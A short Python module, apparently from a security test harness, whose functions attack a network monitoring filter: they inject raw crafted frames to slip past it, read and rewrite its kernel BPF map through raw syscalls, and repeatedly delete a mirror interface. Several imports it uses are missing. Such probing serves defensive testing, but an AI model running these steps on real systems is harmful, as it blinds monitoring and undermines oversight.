# with: frames.py
# What a filter leaves out, as a place to hide in or as something to see after all.

import subprocess


def attack_hide(device, *specifications):
    """Datagrams that are not easily told for what they are, each with a word of its own: TOKEN=FRAME."""
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    made.bind((device, 0))
    for text in specifications:
        token, _, what = text.partition("=")
        for one in frames(what, token):
            made.send(one)
            time.sleep(0.002)
    done("sent %d datagrams" % len(specifications))


def bpf(command, attributes):
    buffer = ctypes.create_string_buffer(attributes.ljust(120, b"\0"), 120)
    return call(321, command, buffer, 120), buffer.raw


def read_filter(number):
    """BPF_MAP_GET_FD_BY_ID, BPF_OBJ_GET_INFO_BY_FD, BPF_MAP_LOOKUP_ELEM."""
    descriptor, _ = bpf(14, struct.pack("I", number))
    try:
        info = ctypes.create_string_buffer(80)
        bpf(15, struct.pack("IIQ", descriptor, 80, ctypes.addressof(info)))
        kind, _, key, size, _, _ = struct.unpack("6I", info.raw[:24])
        if not info.raw[24:40].startswith(b"hs_filter"):
            raise OSError(errno.ENOENT, "another map")
        slot, value = ctypes.create_string_buffer(4), ctypes.create_string_buffer(size)
        bpf(1, struct.pack("IIQQ", descriptor, 0, ctypes.addressof(slot), ctypes.addressof(value)))
        # As it is, so that nothing changes: whether one may.
        bpf(2, struct.pack("IIQQQ", descriptor, 0, ctypes.addressof(slot), ctypes.addressof(value), 0))
        return "read and written: map %d, %d bytes" % (number, size)
    finally:
        os.close(descriptor)


def attack_maps():
    """The maps of mirrors and filters, by their numbers; the kernel tells root which there are, and others may guess."""
    numbers, reasons = [], {}
    try:
        number = 0
        while True:
            number = struct.unpack("II", bpf(12, struct.pack("I", number))[1][:8])[1]
            numbers.append(number)
    except OSError as error:
        reasons["list"] = name(error)
    for number in numbers or range(1, 2000):
        try:
            return read_filter(number)
        except OSError as error:
            reasons["map"] = name(error) if name(error) == "EPERM" or "map" not in reasons else reasons["map"]
    for path in ("/sys/fs/bpf", "/sys/kernel/debug/tracing", "/sys/kernel/btf"):
        try:
            found = os.listdir(path)
            reasons[path] = "%d entries" % len(found)
        except OSError as error:
            reasons[path] = name(error)
    refused(", ".join("%s=%s" % pair for pair in reasons.items()))


def attack_remade(device, seconds):
    """With CAP_NET_ADMIN: has its mirror port made anew, over and over."""
    deleted, end = 0, time.monotonic() + float(seconds)
    while time.monotonic() < end:
        if subprocess.run(["/usr/sbin/ip", "link", "delete", device], capture_output=True).returncode == 0:
            deleted += 1
            if NATIVE:
                return "deleted"
        time.sleep(0.01)
    done("deleted %d times" % deleted)


run(globals())
